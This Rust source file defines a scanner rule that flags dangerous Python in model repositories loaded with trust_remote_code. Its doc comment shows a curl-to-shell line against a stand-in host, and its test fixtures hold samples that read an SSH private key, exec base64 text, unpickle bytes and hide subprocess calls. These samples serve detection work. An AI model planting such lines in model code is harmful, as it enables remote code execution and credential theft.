use std::collections::BTreeSet;

use stance_core::fact::{Artifact, ArtifactFormat, Embedded, EmbeddedKind, Fact};
use stance_core::{Confidence, Severity, Snapshot};
use stance_inspect::{mlflow, model_code};

use stance_intent::deed::{self, Deed};
use crate::{Content, Cx, Example, Rule};

rule! {
    /// # Code of a model that acts on the machine
    ///
    /// ## What it finds
    /// Python that belongs to a model (`modeling_*.py`, `tokenization_*.py`, `configuration_*.py` and their like,
    /// classes that extend those of the Hugging Face libraries, endpoint handlers, loading scripts of datasets, and
    /// any file that an `auto_map`, a pipeline or an `MLmodel` beside it names)
    /// and starts programs, evaluates text that is built, decoded or fetched, unpacks byte code, opens sockets,
    /// talks to the network while it is imported, reads credentials, writes files that run at the next login, or
    /// deletes files. What stands behind `if __name__ == "__main__":` is no more than noted, since loaders import the
    /// file. Names taken by `getattr`, `__import__` or from `__builtins__` are followed. Critical when it runs as soon
    /// as the file is imported. A call, made for its effect at import, of a package that models are not made with is
    /// reported with less certainty.
    ///
    /// ## Why it matters
    /// With `trust_remote_code=True` loaders import this file and call what is in it, with the rights of whoever
    /// loads the model. Code that describes a network needs tensors and nothing else: no shell, no socket, no home
    /// directory.
    ///
    /// ## Example
    /// ```python
    /// import os
    /// os.system("curl http://x.example/x.sh | sh")
    ///
    /// class Model(PreTrainedModel): ...
    /// ```
    ///
    /// ## Fix
    /// Do not load the model with `trust_remote_code=True`. If the call has a reason, read the whole file, keep your own
    /// copy of it at a fixed commit, and load it where there is no network and nothing to steal.
    ///
    /// ## References
    /// - [Transformers: custom models](https://huggingface.co/docs/transformers/custom_models)
    /// - CWE-94: Improper Control of Generation of Code
    RepositoryCode {
        id: "model/repository-code",
        severity: High,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM03",
            "owasp-llm-2026:LLM04",
            "owasp-agentic-2026:ASI04",
            "mitre-atlas:AML.T0010.003",
            "mitre-atlas:AML.T0011.000",
            "nist-ai-rmf-1.0:MANAGE 3.2",
            "iso-42001-2023:A.10.3",
            "eu-ai-act:Art. 15",
        ],
        bad: [
            Example {
                files: &[
                    ("m/config.json", Content::Text(PIPELINE)),
                    ("m/pipe.py", Content::Text("import os\nos.system('id')\nclass P: pass\n")),
                ],
                policy: None,
            },
            Example {
                files: &[("m/config.json", Content::Text(PIPELINE)), ("m/pipe.py", Content::Text(STARTED))],
                policy: None,
            },
            Example {
                files: &[
                    ("m/MLmodel", Content::Text(MLFLOW)),
                    ("m/model.py", Content::Text("import os\ndef f():\n    os.system('id')\n")),
                ],
                policy: None,
            },
            crate::text!(
                "modeling_s.py",
                "from pathlib import Path\nclass M:\n    def f(self):\n        return (Path.home() / '.ssh' / 'id_rsa').read_text()\n"
            ),
            crate::text!(
                "modeling_x.py",
                "import os\nfrom transformers import PreTrainedModel\nos.system('id')\nclass M(PreTrainedModel):\n    pass\n"
            ),
            crate::text!(
                "tokenization_x.py",
                "class T:\n    def __init__(self):\n        s = getattr(__import__('subprocess'), 'Po' + 'pen')\n        s(['sh', '-c', 'id'])\n"
            ),
            crate::text!("modeling_y.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
            crate::text!("modeling_v.py", "import pickle\nclass M:\n    def forward(self, x):\n        return pickle.loads(bytes.fromhex('80042e'))\n"),
            crate::text!("custom_generate/generate.py", "import os\ndef generate(model, **kwargs):\n    os.system('id')\n"),
            crate::text!("modeling_w.py", "(lambda f: f('id'))(__import__('os').popen)\n"),
            crate::text!("modeling_z.py", "from vendor_tools.agent import install\ninstall('.')\nclass Z: pass\n"),
        ],
        good: [
            Example {
                files: &[
                    ("m/config.json", Content::Text(PIPELINE)),
                    ("tools/pipe.py", Content::Text("import os\nos.system('make')\n")),
                    ("m/train.py", Content::Text(STARTED)),
                    ("m/make.py", Content::Text("import os\nos.system('make')\n")),
                ],
                policy: None,
            },
            crate::text!(
                "modeling_x.py",
                "import torch\nfrom transformers import AutoConfig, PreTrainedModel\nfrom transformers.utils import logging\nlogger = logging.get_logger(__name__)\nAutoConfig.register('x', object)\nclass M(PreTrainedModel):\n    def forward(self, x):\n        self.eval()\n        return torch.compile(x)\n"
            ),
            crate::text!(
                "processing_x.py",
                "import requests\nfrom PIL import Image\nclass P:\n    def load(self, url):\n        return Image.open(requests.get(url, stream=True).raw)\n"
            ),
            crate::text!(
                "tokenization_x.py",
                "import json\nclass T:\n    def __init__(self, vocab_file):\n        with open(vocab_file) as handle:\n            self.vocab = json.load(handle)\n"
            ),
            crate::text!("app/models/net.py", "from transformers import PreTrainedModel\nfrom app.log import logger\nlogger.warning('slow')\nclass N(PreTrainedModel):\n    pass\n"),
            crate::text!("ports.py", "import socket\nfrom transformers import PreTrainedModel\nm = PreTrainedModel.__new__(PreTrainedModel)\ndef free():\n    return socket.socket(socket.AF_INET)\n"),
            crate::text!("train.py", "import subprocess\nsubprocess.run(['nvidia-smi'])\n"),
        ],
    }
}

/// A configuration whose pipeline is code of the model, and one of MLflow that is loaded from code.
const PIPELINE: &str = r#"{"model_type": "bert", "custom_pipelines": {"x": {"impl": "pipe.P"}}}"#;
const MLFLOW: &str =
    "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n";

/// Code that is imported, and is a program as well.
const STARTED: &str = "import os\nos.system('id')\nclass P: pass\nif __name__ == '__main__':\n    P()\n";

impl Rule for RepositoryCode {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        cx.judges_if(artifact.embedded.iter().any(|embedded| embedded.kind == EmbeddedKind::ModelCode));
        if !artifact.metadata.contains_key(model_code::UNBOUND) {
            judge(artifact, cx);
        }
    }

    fn graph(&self, snapshot: &Snapshot, cx: &mut Cx<'_>) {
        let unbound = |artifact: &Artifact| artifact.metadata.contains_key(model_code::UNBOUND);
        let all = || {
            snapshot.observations.iter().filter_map(|seen| match &seen.fact {
                Fact::Artifact(artifact) => Some((&*seen.subject, &**artifact)),
                _ => None,
            })
        };
        if !all().any(|(_, artifact)| unbound(artifact)) {
            return;
        }
        let mut named = BTreeSet::new();
        for (path, artifact) in all() {
            if artifact.format == ArtifactFormat::Configuration && !unbound(artifact) {
                names(path, artifact, &mut named);
            }
        }
        for (path, artifact) in all() {
            let program = artifact.metadata.get(model_code::UNBOUND).map(String::as_str) == Some(model_code::PROGRAM);
            if unbound(artifact) && (named.contains(path) || !program && is_named(path, &named)) {
                judge(artifact, cx);
            }
        }
    }
}

/// The files of code that a configuration names, and directories of code with a slash behind them.
fn names(path: &str, artifact: &Artifact, named: &mut BTreeSet<String>) {
    let directory = path.rsplit_once('/').map_or("", |(directory, _)| directory);
    let mut add = |inner: &str| {
        let inner = inner.trim_start_matches("./");
        let whole = if directory.is_empty() {
            inner.to_owned()
        } else {
            format!("{directory}/{inner}")
        };
        named.insert(whole);
    };
    for source in &artifact.embedded {
        match source.kind {
            // `module.Class`; the code of another repository is not here.
            EmbeddedKind::Source if !source.detail.contains("--") => {
                if let Some((module, _)) = source.detail.rsplit_once('.') {
                    add(&format!("{}.py", module.replace('.', "/")));
                }
            }
            EmbeddedKind::LoaderModule => {
                let module = source.name.replace('.', "/");
                add(&format!("{module}.py"));
                add(&format!("{module}/"));
                add(&format!("code/{module}.py"));
            }
            _ => {}
        }
    }
    for key in [mlflow::CODE, mlflow::CODE_DIRECTORIES] {
        for place in artifact.metadata.get(key).into_iter().flat_map(|all| all.split(", ")) {
            // Of the path of the script MLflow takes the last part only.
            let place = if key == mlflow::CODE {
                place.rsplit('/').next().unwrap_or(place)
            } else {
                place
            };
            let directory = key == mlflow::CODE_DIRECTORIES && !place.ends_with(".py");
            add(&if directory { format!("{place}/") } else { place.to_owned() });
        }
    }
}

/// Whether a file is named, or one of the directories that it lies in.
fn is_named(path: &str, named: &BTreeSet<String>) -> bool {
    named.contains(path)
        || path
            .match_indices('/')
            .any(|(at, _)| path.get(..=at).is_some_and(|directory| named.contains(directory)))
}

/// Whether a call goes to the package that the file itself lies in: `app.log.warn()` in `app/models/x.py`. Loaders of
/// models copy no such package, so that the file is part of a program.
fn is_of_the_program(call: &str, path: &str) -> bool {
    let package = call.split(['.', '(']).next().unwrap_or_default();
    path.rsplit_once('/')
        .is_some_and(|(directory, _)| directory.split('/').any(|part| part == package))
}

fn judge(artifact: &Artifact, cx: &mut Cx<'_>) {
    let (started, calls): (Vec<&Embedded>, Vec<&Embedded>) = artifact
        .embedded
        .iter()
        .filter(|embedded| embedded.kind == EmbeddedKind::ModelCode)
        .partition(|embedded| embedded.name.split(' ').next() == Some(model_code::MAIN));
    note_started(&started, cx);
    let mut deeds: Vec<Deed<'_>> = calls.iter().filter_map(|call| deed::of(call)).collect();
    deeds.retain(|deed| !(deed.unsure && is_of_the_program(&deed.call.detail, &deed.call.evidence.path)));
    deeds.extend(deed::theft(&calls));
    deeds.sort_by_key(|deed| std::cmp::Reverse(deed.severity));
    let Some((first, rest)) = deeds.split_first() else {
        return;
    };
    let mut draft = cx
        .report(
            &first.call.evidence,
            format!("The code of the model {} {}", first.what, first.moment()),
        )
        .severity(first.severity)
        .note(format!("it calls: {}", stance_core::evidence::shorten(&first.call.detail)));
    if first.unsure {
        draft = draft.confidence(Confidence::Medium);
    }
    for deed in rest.iter().take(20) {
        draft = draft
            .note(format!("it {} {}", deed.what, deed.moment()))
            .also(&deed.call.evidence);
    }
}

/// Says what the file does when somebody starts it: loading a model imports it, and runs none of that.
fn note_started(started: &[&Embedded], cx: &mut Cx<'_>) {
    let Some(deed) = started.iter().find_map(|call| deed::of(call)) else {
        return;
    };
    cx.report(
        &deed.call.evidence,
        format!(
            "The code of the model {} when it is started as a program; importing it does not",
            deed.what
        ),
    )
    .severity(Severity::Low)
    .confidence(Confidence::Medium);
}
